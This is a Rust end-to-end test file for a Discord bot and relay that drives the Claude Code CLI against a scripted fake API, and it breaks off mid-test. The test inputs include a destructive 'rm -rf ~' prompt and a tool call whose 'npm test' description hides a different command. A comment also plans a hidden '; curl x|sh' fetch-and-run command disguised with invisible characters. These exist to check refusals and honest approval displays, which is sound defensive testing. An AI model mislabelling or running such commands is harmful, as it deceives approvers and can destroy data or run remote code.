//! Discord end to end: the Discord simulator, the real relay with its bot (gateway mode, REST through the
//! simulator), the real agent, and the real Claude Code CLI against the scripted Messages API. Users act
//! only as they would in Discord — slash commands, button clicks, messages in threads — and everything is
//! checked in what the simulator recorded: the messages as a person would see them.
//!
//! One world is shared by the whole journey (the CLI is slow to start; the steps build on each other).
//! HTTP-interactions mode is checked separately, through the relay's HTTPS port.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use crate::support::{direct, TestAgent, TestRelay};
use crate::tasks::claude_processes;
use ct_agent::projects::{Host, Policy, SharePolicy};
use ct_agent::tasks::TaskConfig;
use ct_agent::{ConfigDir, RunOptions};
use ct_relay::discord::{BotConfig, Delivery};
use ct_relay::RelayConfig;
use ct_testkit::discord::{InteractionRef, Opt, SimMessage, SimUser, SlashCommand};
use ct_testkit::process::poll_until;
use ct_testkit::{
    claude_bin, eventually, eventually_async, ClaudeEnv, DiscordSim, FakeAnthropic, LongJob, Reply,
};
use serde_json::{json, Value};

/// Generous: two cores shared with other builds, and the CLI binary is large to load.
pub(crate) const T: Duration = Duration::from_secs(90);

/// Temporary folders outside /tmp: a sandboxed (grantee) task gets a private /tmp.
pub(crate) fn scratch(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(prefix)
        .tempdir_in("/var/tmp")
        .unwrap_or_else(|_| tempfile::tempdir().unwrap())
}

/// The bot's configuration for the simulator: gateway mode, REST and gateway through its proxy base.
pub(crate) fn gateway_config(sim: &DiscordSim) -> BotConfig {
    let mut config = BotConfig::gateway(sim.token());
    config.api_proxy = Some(sim.api_base());
    config.guild_id = Some(sim.guild_id().parse().unwrap());
    config
}

/// The message an interaction was answered with, once it is no longer "thinking…".
pub(crate) async fn answer(sim: &DiscordSim, ix: &InteractionRef) -> SimMessage {
    sim.wait_until(T, |s| {
        let i = s.interaction(&ix.id)?;
        let m = s.message(i.original_message.as_deref()?)?;
        (m.flags & 128 == 0 && (!m.content.is_empty() || m.embeds != json!([]))).then_some(m)
    })
    .await
    .unwrap_or_else(|e| panic!("no answer to interaction {}: {e:#}", ix.id))
}

/// A private answer (only the person who asked sees it).
pub(crate) async fn private(sim: &DiscordSim, ix: &InteractionRef) -> String {
    let m = answer(sim, ix).await;
    assert!(
        m.is_ephemeral(),
        "expected a private answer: {:?}",
        m.content
    );
    m.content
}

/// The first message in `channel` that satisfies `pred`, waiting for it.
pub(crate) async fn message_in(
    sim: &DiscordSim,
    channel: &str,
    what: &str,
    pred: impl Fn(&SimMessage) -> bool,
) -> SimMessage {
    sim.wait_until(T, |s| s.messages(channel).into_iter().find(|m| pred(m)))
        .await
        .unwrap_or_else(|e| {
            panic!(
                "no {what} in {channel}: {e:#}\nmessages: {:#?}",
                sim.messages(channel)
                    .iter()
                    .map(|m| (&m.content, &m.embeds))
                    .collect::<Vec<_>>()
            )
        })
}

fn embed_title(m: &SimMessage) -> String {
    m.embeds[0]["title"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// The summary embeds posted in a thread so far, titles only.
fn summaries(sim: &DiscordSim, thread: &str) -> Vec<String> {
    sim.messages(thread)
        .iter()
        .filter(|m| m.embeds.as_array().is_some_and(|e| !e.is_empty()))
        .map(embed_title)
        .collect()
}

/// Waits until the thread has `n` summaries; returns the last one's title.
pub(crate) async fn nth_summary(sim: &DiscordSim, thread: &str, n: usize) -> String {
    sim.wait_until(T, |s| {
        let all = summaries(s, thread);
        (all.len() >= n).then(|| all[n - 1].clone())
    })
    .await
    .unwrap_or_else(|e| {
        panic!(
            "no summary #{n} in the thread: {e:#}: {:#?}",
            sim.messages(thread)
        )
    })
}

/// `<#123>` in a message: the channel it links to.
fn linked_channel(content: &str) -> String {
    let start = content.find("<#").expect("a channel link") + 2;
    let end = content[start..].find('>').unwrap() + start;
    content[start..end].to_string()
}

/// Starts `/task` as `user` and returns (task id, thread id) from the private answer.
pub(crate) async fn start_task(
    sim: &DiscordSim,
    user: &SimUser,
    cmd: SlashCommand,
) -> (String, String) {
    let ix = sim.send_slash(&sim.origin(user), &cmd).unwrap();
    let said = private(sim, &ix).await;
    assert!(said.starts_with("🧵 Started `t_"), "{said}");
    let task = said.split('`').nth(1).unwrap().to_string();
    (task, linked_channel(&said))
}

/// `/task PROMPT project:app mode:default`: a task in the test project that asks before every tool use.
pub(crate) fn task_in_app(prompt: &str) -> SlashCommand {
    SlashCommand::new("task")
        .opt(Opt::str("prompt", prompt))
        .opt(Opt::str("project", "app"))
        .opt(Opt::str("mode", "default"))
}

/// `/project add app PATH` as `user`; returns what the bot told them privately.
pub(crate) async fn add_project(sim: &DiscordSim, user: &SimUser, project: &Path) -> String {
    let ix = sim
        .send_slash(
            &sim.origin(user),
            &SlashCommand::new("project").sub(
                "add",
                [
                    Opt::str("name", "app"),
                    Opt::str("path", &project.display().to_string()),
                ],
            ),
        )
        .unwrap();
    private(sim, &ix).await
}

/// The approval message of `task` in a thread, once it is posted.
pub(crate) async fn approval_message(sim: &DiscordSim, thread: &str, task: &str) -> SimMessage {
    let prefix = format!("ao:{task}:");
    message_in(sim, thread, "approval message", |m| {
        m.custom_ids().iter().any(|c| c.starts_with(&prefix))
            && !m.components.to_string().contains("\"disabled\":true")
    })
    .await
}

/// Clicks a button and returns the interaction.
pub(crate) fn click(
    sim: &DiscordSim,
    user: &SimUser,
    thread: &str,
    msg: &SimMessage,
    prefix: &str,
) -> InteractionRef {
    let id = msg
        .custom_ids()
        .into_iter()
        .find(|c| c.starts_with(prefix))
        .unwrap_or_else(|| panic!("no {prefix} button on {:?}", msg.custom_ids()));
    sim.send_button(&sim.origin_in(user, thread), &msg.id, &id)
        .unwrap()
}

/// A relay on `dir` whose bot is connected to the simulator and has registered its commands.
///
/// Its port is one a test can restart it on (several tests here do): see [`ct_testkit::ports`].
pub(crate) async fn relay_with_bot(sim: &DiscordSim, dir: &Path) -> TestRelay {
    let listen = std::net::SocketAddr::from(([127, 0, 0, 1], ct_testkit::ports::restartable()));
    let mut config = RelayConfig::new(dir.to_path_buf(), listen);
    config.bot = Some(gateway_config(sim));
    let relay = TestRelay::start(config).await;
    sim.wait_identified(T).await.unwrap();
    sim.wait_for(|c| c.is("PUT", "/applications/*/guilds/*/commands"), T)
        .await
        .unwrap();
    relay
}

pub(crate) struct World {
    pub(crate) sim: DiscordSim,
    pub(crate) relay: TestRelay,
    pub(crate) fake: FakeAnthropic,
    pub(crate) agent_dir: tempfile::TempDir,
    pub(crate) allowed: PathBuf,
    pub(crate) project: PathBuf,
    claude_env: ClaudeEnv,
    pub(crate) _dirs: Vec<tempfile::TempDir>,
}

pub(crate) async fn world() -> World {
    let sim = DiscordSim::start().await.unwrap();
    let fake = FakeAnthropic::start([]).await.expect("fake API");
    let mut claude_env = ClaudeEnv::new(fake.base_url()).expect("claude env");
    let home_dir = scratch("ct-home-");
    let home = std::fs::canonicalize(home_dir.path()).unwrap();
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    claude_env.set_var("HOME", &home.display().to_string());
    claude_env.set_var(
        "CLAUDE_CONFIG_DIR",
        &home.join(".claude").display().to_string(),
    );
    let root = scratch("ct-root-");
    let allowed = std::fs::canonicalize(root.path()).unwrap();
    let project = allowed.join("app");
    std::fs::create_dir(&project).unwrap();

    let relay_dir = tempfile::tempdir().unwrap();
    let relay = relay_with_bot(&sim, relay_dir.path()).await;
    World {
        sim,
        relay,
        fake,
        agent_dir: tempfile::tempdir().unwrap(),
        allowed,
        project,
        claude_env,
        _dirs: vec![home_dir, root, relay_dir],
    }
}

impl World {
    pub(crate) fn run_options(&self) -> RunOptions {
        let mut run = RunOptions::new(self.agent_dir.path());
        run.tasks = TaskConfig {
            claude_bin: Some(claude_bin()),
            env_clear: true,
            env: self
                .claude_env
                .vars()
                .iter()
                .map(|(k, v)| (OsString::from(k), OsString::from(v)))
                .collect(),
            allowed_dirs: Some(self.allowed.display().to_string()),
            cancel_step: Duration::from_secs(10),
            idle_timeout: Duration::from_secs(600),
            // Shared tasks run only with a key set aside for them (the fake API takes any).
            shared_api_key: Some(ct_agent::tasks::SharedKey("shared-tasks-test-key".into())),
            ..TaskConfig::default()
        };
        run
    }

    pub(crate) fn sharing(&self, sharing: SharePolicy) {
        let dir = ConfigDir::open(self.agent_dir.path()).unwrap();
        Policy::load_with(&dir, &self.allowed.display().to_string(), Host::detect())
            .unwrap()
            .set_sharing(sharing)
            .unwrap();
    }
}

pub(crate) fn write(path: &Path, content: &str) -> Value {
    json!({ "file_path": path.display().to_string(), "content": content })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_pairs_adds_a_project_and_drives_tasks_from_discord() {
    let w = world().await;
    let sim = &w.sim;
    let (alice, bob, gina) = (sim.user("alice"), sim.user("bob"), sim.user("gina"));

    // /register pair: a private answer with the token and the exact command to run.
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("register").sub("pair", []),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    let line = said
        .lines()
        .find(|l| l.starts_with("ct-agent pair "))
        .unwrap_or_else(|| panic!("no `ct-agent pair` line: {said}"));
    let token: ct_protocol::pairing::PairingToken = line["ct-agent pair ".len()..]
        .trim()
        .parse()
        .expect("a pairing token");

    // The agent pairs with that token, and the user is told, privately, which agent it was.
    let paired = ct_agent::pair_with(
        w.agent_dir.path(),
        &token,
        Some("laptop".into()),
        false,
        &direct(),
    )
    .await
    .expect("pairing with the token from Discord");
    assert_eq!(paired.pairing.owner, alice.id);
    let told = sim
        .wait_for(
            |c| c.is("POST", &format!("/webhooks/*/{}", ix.token)) && c.status == 200,
            T,
        )
        .await
        .unwrap();
    let told_text = told.body["content"].as_str().unwrap_or_default();
    assert!(
        told_text.contains("**laptop** paired")
            && told_text.contains(&paired.pairing.agent_fingerprint.short()),
        "{told_text}"
    );
    assert_eq!(
        told.body["flags"].as_u64().unwrap_or(0) & 64,
        64,
        "told privately"
    );

    // The owner lets the agent take shared tasks before it starts (it reports that to the relay when it
    // connects); who may actually use it is still up to the owner's shares.
    w.sharing(SharePolicy::All);
    let mut agent = TestAgent::start_with(w.run_options());
    agent.connected(T).await;

    // /project add: the agent checks the folder; one outside its allowed folders is refused, with why.
    let said = add_project(sim, &alice, &w.project).await;
    assert!(
        said.contains("**app**") && said.contains("laptop"),
        "{said}"
    );
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("project")
                .sub("add", [Opt::str("name", "etc"), Opt::str("path", "/etc")]),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(said.starts_with("⚠️") && said.contains("refused"), "{said}");

    // /task: a thread with a progress message, an approval answered by button, text, and a summary.
    let target = w.project.join("hello.txt");
    w.fake
        .push(Reply::tool_use("Write", write(&target, "hi from claude\n")));
    w.fake.push(Reply::text("I wrote hello.txt."));
    let (task, thread) = start_task(sim, &alice, task_in_app("write hello.txt")).await;
    let ch = sim.channel(&thread).expect("the thread exists");
    assert!(ch.is_thread() && ch.name.starts_with(&task), "{ch:?}");
    let approval = approval_message(sim, &thread, &task).await;
    assert!(
        approval.content.contains(&format!("for <@{}>", alice.id)),
        "{}",
        approval.content
    );
    // Someone else's click is refused, privately, naming who decides.
    let ix = click(sim, &bob, &thread, &approval, "ao:");
    let said = private(sim, &ix).await;
    assert!(
        said.contains(&format!("This approval is for <@{}>", alice.id)),
        "{said}"
    );
    let ix = click(sim, &alice, &thread, &approval, "ao:");
    let cb = sim
        .wait_callback(&ix, Duration::from_secs(3))
        .await
        .unwrap();
    assert_eq!(
        (cb.status, cb.body_type()),
        (204, Some(6)),
        "{}",
        cb.response
    );
    let closed = message_in(sim, &thread, "closed approval", |m| {
        m.id == approval.id && m.content.contains("Allowed once")
    })
    .await;
    assert!(
        closed.content.contains(&format!("by <@{}>", alice.id)),
        "{}",
        closed.content
    );
    assert!(closed.components.to_string().contains("\"disabled\":true"));
    assert_eq!(
        nth_summary(sim, &thread, 1).await,
        format!("✅ Done · {task}")
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "hi from claude\n"
    );
    let msgs = sim.messages(&thread);
    let progress = &msgs[0];
    assert!(
        progress.content.starts_with("✅ **Done**") && progress.content.contains("Write"),
        "{}",
        progress.content
    );
    assert_eq!(progress.custom_ids(), [format!("st:{task}")]);
    assert!(
        progress
            .components
            .to_string()
            .contains("\"disabled\":true"),
        "Stop is disabled at the end"
    );
    assert!(
        msgs.iter().any(|m| m.content == "I wrote hello.txt."),
        "{msgs:#?}"
    );

    // A message in the thread continues the session: a new task in the same thread, same conversation.
    w.fake.push(Reply::text("bye!"));
    sim.send_message(&sim.origin_in(&alice, &thread), "now say bye")
        .unwrap();
    let second = nth_summary(sim, &thread, 2).await;
    assert!(
        second.starts_with("✅ Done · t_") && !second.ends_with(&task),
        "{second}"
    );
    message_in(sim, &thread, "the follow-up's answer", |m| {
        m.content == "bye!"
    })
    .await;
    let conversation = w.fake.main_requests().last().unwrap().body["messages"].to_string();
    assert!(
        conversation.contains("write hello.txt") && conversation.contains("now say bye"),
        "the follow-up resumed the session: {conversation}"
    );

    // Long text: split into messages of at most 2,000 characters; longer still: an attachment.
    let long: String = (0..60)
        .map(|i| format!("line {i:02} {}\n", "x".repeat(50)))
        .collect(); // ~3,500
    let huge = "y".repeat(80) + "\n";
    let huge = huge.repeat(200); // ~16,000: more than two messages
    w.fake.push(Reply::text(long.clone()));
    sim.send_message(&sim.origin_in(&alice, &thread), "say a lot")
        .unwrap();
    nth_summary(sim, &thread, 3).await;
    w.fake.push(Reply::text(huge.clone()));
    sim.send_message(&sim.origin_in(&alice, &thread), "say even more")
        .unwrap();
    nth_summary(sim, &thread, 4).await;
    let msgs = sim.messages(&thread);
    let parts: Vec<&SimMessage> = msgs
        .iter()
        .filter(|m| m.content.starts_with("line "))
        .collect();
    assert!(parts.len() >= 2, "{parts:#?}");
    assert!(parts.iter().all(|m| m.content.chars().count() <= 2000));
    let joined: String = parts.iter().map(|m| m.content.as_str()).collect();
    assert_eq!(
        joined.trim_end(),
        long.trim_end(),
        "split on line boundaries, nothing lost"
    );
    let file = msgs
        .iter()
        .find(|m| !m.attachments.is_empty())
        .unwrap_or_else(|| panic!("no attachment: {msgs:#?}"));
    assert!(file.content.starts_with("📎"), "{}", file.content);
    let size = file.attachments[0].size;
    assert!(
        size == huge.len() || size == huge.trim_end().len(),
        "{size} bytes attached"
    );

    // /cc model (the CLI's default is another model): the next message continues the conversation on that model (the agent resumes the
    // session in a process started with it).
    let last_model =
        |fake: &FakeAnthropic| fake.main_requests().last().unwrap().body["model"].to_string();
    let before = last_model(&w.fake);
    let cc = |sub: &str, opts: Vec<Opt>| {
        sim.send_slash(
            &sim.origin_in(&alice, &thread),
            &SlashCommand::new("cc").sub(sub, opts),
        )
        .unwrap()
    };
    let said = answer(sim, &cc("model", vec![Opt::str("name", "sonnet")])).await;
    assert!(said.content.contains("**sonnet**"), "{}", said.content);
    w.fake.push(Reply::text("now on sonnet"));
    sim.send_message(&sim.origin_in(&alice, &thread), "which model?")
        .unwrap();
    nth_summary(sim, &thread, 5).await;
    let after = last_model(&w.fake);
    assert!(
        after.contains("sonnet") && after != before,
        "{before} → {after}"
    );
    let conversation = w.fake.main_requests().last().unwrap().body["messages"].to_string();
    assert!(
        conversation.contains("write hello.txt"),
        "the session continued: {conversation}"
    );

    // /cc status: the session's figures so far, privately.
    let said = answer(sim, &cc("status", vec![])).await;
    assert!(
        said.is_ephemeral()
            && said.content.contains("sonnet")
            && said.content.contains("session `"),
        "{}",
        said.content
    );

    // /cc clear: the next message starts a new conversation in the same thread.
    answer(sim, &cc("clear", vec![])).await;
    w.fake.push(Reply::text("hello again"));
    sim.send_message(&sim.origin_in(&alice, &thread), "fresh start")
        .unwrap();
    nth_summary(sim, &thread, 6).await;
    let conversation = w.fake.main_requests().last().unwrap().body["messages"].to_string();
    assert!(
        conversation.contains("fresh start") && !conversation.contains("write hello.txt"),
        "a new session: {conversation}"
    );

    // /cancel on a running task (running the job, or waiting for its approval: cancel ends either).
    let job = LongJob::write(&w.project, 300);
    w.fake.push(Reply::tool_use(
        "Bash",
        json!({ "command": job.command(), "description": "Run the long job" }),
    ));
    let (waiting, wthread) = start_task(
        sim,
        &alice,
        SlashCommand::new("task")
            .opt(Opt::str("prompt", "wait"))
            .opt(Opt::str("project", "app")),
    )
    .await;
    message_in(
        sim,
        &wthread,
        "the Bash tool in the progress message",
        |m| m.content.contains("▶ Bash `sh long-job.sh 300`"),
    )
    .await;
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("cancel").opt(Opt::str("task_id", &waiting)),
        )
        .unwrap();
    let said = answer(sim, &ix).await;
    assert!(said.content.contains("Stopping"), "{}", said.content);
    assert_eq!(
        nth_summary(sim, &wthread, 1).await,
        format!("⏹️ Cancelled · {waiting}")
    );

    // A grantee's task: the owner shares, the agent accepts shared tasks; only the owner answers approvals.
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("share").sub("add", [Opt::user("user", &gina)]),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(said.contains(&format!("<@{}>", gina.id)), "{said}");
    let gtarget = w.project.join("gina.txt");
    w.fake
        .push(Reply::tool_use("Write", write(&gtarget, "from gina")));
    w.fake.push(Reply::text("written for gina"));
    let (gtask, gthread) = start_task(
        sim,
        &gina,
        SlashCommand::new("task")
            .opt(Opt::str("prompt", "write gina.txt"))
            .opt(Opt::str("project", "app"))
            .opt(Opt::user("target", &alice)),
    )
    .await;
    let approval = approval_message(sim, &gthread, &gtask).await;
    assert!(
        approval.content.contains(&format!("for <@{}>", alice.id)),
        "{}",
        approval.content
    );
    let ix = click(sim, &gina, &gthread, &approval, "ao:");
    let said = private(sim, &ix).await;
    assert!(
        said.contains(&format!("This approval is for <@{}>", alice.id)),
        "{said}"
    );
    click(sim, &alice, &gthread, &approval, "ao:");
    assert_eq!(
        nth_summary(sim, &gthread, 1).await,
        format!("✅ Done · {gtask}")
    );
    assert_eq!(std::fs::read_to_string(&gtarget).unwrap(), "from gina");

    // Errors a user can cause, in the core's words: privately when the relay knows (an unknown project,
    // with the list), in the thread and its summary when the agent refuses (a folder it does not allow).
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("task")
                .opt(Opt::str("prompt", "hi"))
                .opt(Opt::str("project", "nope")),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(
        said.contains("unknown project \"nope\"") && said.contains("app"),
        "{said}"
    );
    let (refused, rthread) = start_task(
        sim,
        &alice,
        SlashCommand::new("task")
            .opt(Opt::str("prompt", "look around"))
            .opt(Opt::str("project", "/etc")),
    )
    .await;
    assert_eq!(
        nth_summary(sim, &rthread, 1).await,
        format!("❌ Failed · {refused}")
    );
    let summary = sim
        .messages(&rthread)
        .into_iter()
        .find(|m| m.embeds != json!([]))
        .unwrap();
    let why = summary.embeds[0]["description"]
        .as_str()
        .unwrap_or_default();
    assert!(why.contains("not inside an allowed folder"), "{why}");
    assert!(sim.messages(&rthread)[0]
        .content
        .contains("not inside an allowed folder"));

    // A stranger cannot run tasks on someone's agent: refused privately, saying what to do.
    let ix = sim
        .send_slash(
            &sim.origin(&bob),
            &SlashCommand::new("task")
                .opt(Opt::str("prompt", "rm -rf ~"))
                .opt(Opt::str("project", "app"))
                .opt(Opt::user("target", &alice)),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(
        said.starts_with("⚠️") && said.contains("has not shared"),
        "{said}"
    );

    // Nothing the bot sent was refused by the simulator.
    let refused: Vec<_> = sim
        .calls()
        .into_iter()
        .filter(|c| c.status >= 400)
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");

    // With the agent gone: refused privately, saying since when and what to do.
    agent.stop().await.unwrap();
    let core = w.relay.core.clone();
    // The relay sees the agent offline.
    eventually_async(T, async || core.online().await == 0).await;
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("task")
                .opt(Opt::str("prompt", "hi"))
                .opt(Opt::str("project", "app")),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(
        said.contains("is offline (last seen") && said.contains("ct-agent run"),
        "{said}"
    );
    w.relay.stop().await;
}

/// TLS to the relay's self-signed certificate, checking nothing: this test is about the interactions
/// route, not the certificate (agents pin it; Discord needs a real one in front).
#[derive(Debug)]
struct AnyCert;

impl rustls::client::danger::ServerCertVerifier for AnyCert {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}

/// POSTs `body` with `headers` to the relay's interactions path over HTTPS; returns status and body.
async fn post_https(
    addr: std::net::SocketAddr,
    body: &[u8],
    headers: &[(String, String)],
) -> (u16, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .dangerous()
    .with_custom_certificate_verifier(Arc::new(AnyCert))
    .with_no_client_auth();
    let tcp = tokio::net::TcpStream::connect(addr).await.unwrap();
    let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
    let mut stream = tokio_rustls::TlsConnector::from(Arc::new(tls))
        .connect(name, tcp)
        .await
        .unwrap();
    let mut req = format!(
        "POST /discord/interactions HTTP/1.1\r\nhost: {addr}\r\ncontent-type: application/json\r\n\
         content-length: {}\r\nconnection: close\r\n",
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    stream.write_all(req.as_bytes()).await.unwrap();
    stream.write_all(body).await.unwrap();
    let mut out = Vec::new();
    // The server may close without TLS close_notify; what arrived is the whole response either way.
    let _ = stream.read_to_end(&mut out).await;
    let text = String::from_utf8_lossy(&out);
    let status: u16 = text.split_whitespace().nth(1).unwrap().parse().unwrap();
    let body = text.split("\r\n\r\n").nth(1).unwrap_or("");
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

#[tokio::test]
async fn http_interactions_through_the_relays_https_port() {
    let sim = DiscordSim::start().await.unwrap();
    let mut config = gateway_config(&sim);
    config.delivery = Delivery::Http {
        public_key: sim.signer().public_key_hex(),
    };
    config.application_id = Some(sim.application_id().parse().unwrap());
    let relay_dir = tempfile::tempdir().unwrap();
    let mut rc = RelayConfig::new(
        relay_dir.path().to_path_buf(),
        "127.0.0.1:0".parse().unwrap(),
    );
    rc.bot = Some(config);
    let relay = TestRelay::start(rc).await;
    // With a token, HTTP mode registers the commands over REST.
    sim.wait_for(|c| c.is("PUT", "/applications/*/guilds/*/commands"), T)
        .await
        .unwrap();

    // PING → PONG.
    let ping = serde_json::to_vec(&sim.ping_json()).unwrap();
    let (status, body) = post_https(relay.addr, &ping, &sim.signer().headers(&ping)).await;
    assert_eq!((status, body), (200, json!({"type": 1})));

    // A forged or missing signature → 401, as Discord requires.
    let forged = ct_testkit::discord::InteractionSigner::generate();
    assert_eq!(
        post_https(relay.addr, &ping, &forged.headers(&ping))
            .await
            .0,
        401
    );
    assert_eq!(post_https(relay.addr, &ping, &[]).await.0, 401);

    // A signed /agents is answered in the response body, privately.
    let alice = sim.user("alice");
    let p = sim
        .prepare_slash(&sim.origin(&alice), &SlashCommand::new("agents"))
        .unwrap();
    let body = serde_json::to_vec(&p.json).unwrap();
    let (status, reply) = post_https(relay.addr, &body, &sim.signer().headers(&body)).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["type"], 4, "{reply}");
    assert_eq!(reply["data"]["flags"], 64, "{reply}");
    assert!(
        reply["data"]["content"]
            .as_str()
            .unwrap()
            .contains("no agents yet"),
        "{reply}"
    );
    relay.stop().await;
}

/// The relay restarts while Claude Code is in the middle of a task: the agent keeps the task, the new relay
/// stores what happened meanwhile, and its bot carries on in the task's thread by itself. Nothing is posted
/// twice, the one progress message is edited to the end, and the summary comes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_restart_mid_task_keeps_its_thread_going() {
    let w = world().await;
    let alice = w.sim.user("alice");
    crate::support::pair(&w.relay, w.agent_dir.path(), &alice.id).await;
    let mut agent = TestAgent::start_with(w.run_options());
    agent.connected(T).await;
    add_project(&w.sim, &alice, &w.project).await;

    // The job runs until released: it ends, and Claude Code answers after it, while the relay is down.
    let job = LongJob::gated(&w.project);
    w.fake.push(Reply::tool_use(
        "Bash",
        json!({ "command": job.command(), "description": "Run the long job" }),
    ));
    w.fake.push(Reply::text("slept well"));
    let (task, thread) = start_task(
        &w.sim,
        &alice,
        SlashCommand::new("task")
            .opt(Opt::str("prompt", "run the long job"))
            .opt(Opt::str("project", "app")),
    )
    .await;
    // Whether the CLI asks before running a project script is its own business: allow it if asked.
    let me = std::process::id();
    tokio::select! {
        approval = approval_message(&w.sim, &thread, &task) => {
            click(&w.sim, &alice, &thread, &approval, "ao:");
        }
        started = poll_until(T, "the long job runs", || job.child_below(me).is_some()) => {
            started.expect("the long job runs");
        }
    }
    poll_until(T, "the long job runs", || job.child_below(me).is_some())
        .await
        .expect("the long job runs");
    // The thread has got as far as the Bash tool (the mark is saved with each progress edit).
    eventually_async(T, async || {
        let (_, stored, _) = w.relay.core.follow(&task).await.unwrap();
        let tool_seq = stored
            .iter()
            .find(|(_, e)| matches!(e, ct_protocol::task::TaskEvent::Tool { .. }))
            .map(|(seq, _)| *seq);
        let marks: Vec<(String, Value)> = w.relay.core.store().thread_marks().unwrap();
        let posted = marks
            .iter()
            .find(|(t, _)| *t == task)
            .and_then(|(_, m)| m["posted"].as_u64());
        tool_seq.is_some() && posted >= tool_seq
    })
    .await;

    let World {
        sim,
        relay,
        fake,
        _dirs,
        ..
    } = w;
    let (relay_dir, addr) = (_dirs[2].path().to_path_buf(), relay.addr);
    relay.stop().await;
    job.release();
    // Claude Code has had its answer (the request after the job's result), with no relay to tell.
    eventually(T, || fake.main_requests().len() >= 2).await;
    let mut config = RelayConfig::new(relay_dir, addr);
    config.bot = Some(gateway_config(&sim));
    let relay = TestRelay::start(config).await;

    nth_summary(&sim, &thread, 1).await;
    let messages = sim.messages(&thread);
    let count = |pred: &dyn Fn(&SimMessage) -> bool| messages.iter().filter(|m| pred(m)).count();
    assert_eq!(
        count(&|m| m.content.contains("relay restarted")),
        1,
        "{messages:#?}"
    );
    assert_eq!(count(&|m| m.content == "slept well"), 1, "{messages:#?}");
    let progress: Vec<_> = messages
        .iter()
        .filter(|m| m.custom_ids().iter().any(|c| c.starts_with("st:")))
        .collect();
    assert_eq!(progress.len(), 1, "one progress message: {messages:#?}");
    assert!(
        progress[0]
            .components
            .to_string()
            .contains("\"disabled\":true"),
        "the progress message was edited to the end: {:#?}",
        progress[0]
    );
    // The follower forgets its mark right after posting the summary.
    eventually(T, || {
        let marks: Vec<(String, Value)> = relay.core.store().thread_marks().unwrap();
        marks.is_empty()
    })
    .await;
    agent.stop().await.unwrap();
    relay.stop().await;
    sim.shutdown().await;
}

/// An approval message in `thread` whose content has `text` and whose buttons are live.
async fn approval_showing(sim: &DiscordSim, thread: &str, text: &str) -> SimMessage {
    message_in(
        sim,
        thread,
        &format!("an open approval showing {text:?}"),
        |m| {
            m.content.contains(text)
                && m.custom_ids().iter().any(|c| c.starts_with("ao:"))
                && !m.components.to_string().contains("\"disabled\":true")
        },
    )
    .await
}

/// Issue 13, findings 3 and 4, as a person in Discord meets them: an approval shows the command that will
/// run (not Claude's description of it), says when it is cut and attaches the whole input, writes out hidden
/// characters; "Allow for session" covers that command (or a prefix the approver typed), never the rest of
/// Bash; every use a rule allows is posted in the thread and audited; a follow-up task asks afresh.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvals_show_what_runs_and_session_rules_cover_only_what_was_allowed() {
    let w = world().await;
    let sim = &w.sim;
    let alice = sim.user("alice");
    crate::support::pair(&w.relay, w.agent_dir.path(), &alice.id).await;
    let mut agent = TestAgent::start_with(w.run_options());
    agent.connected(T).await;
    add_project(sim, &alice, &w.project).await;
    let bash = |command: &str, description: &str| json!({ "command": command, "description": description });
    let deny = |thread: &str, approval: &SimMessage| {
        let id = approval
            .custom_ids()
            .into_iter()
            .find(|c| c.starts_with("dn:"))
            .unwrap()
            .replacen("dn:", "dr:", 1);
        sim.send_modal_submit(&sim.origin_in(&alice, thread), &id, &[("reason", "no")])
            .unwrap()
    };

    // 1. Described as "npm test", the command is something else: the approval shows the command, first.
    let lying = "touch made.txt && echo hi";
    w.fake
        .push(Reply::tool_use("Bash", bash(lying, "npm test")));
    // 2. Padded past the preview, ending in `; curl x|sh`, with a right-to-left override and a zero-width
    //    space in it.
    let padded = format!(
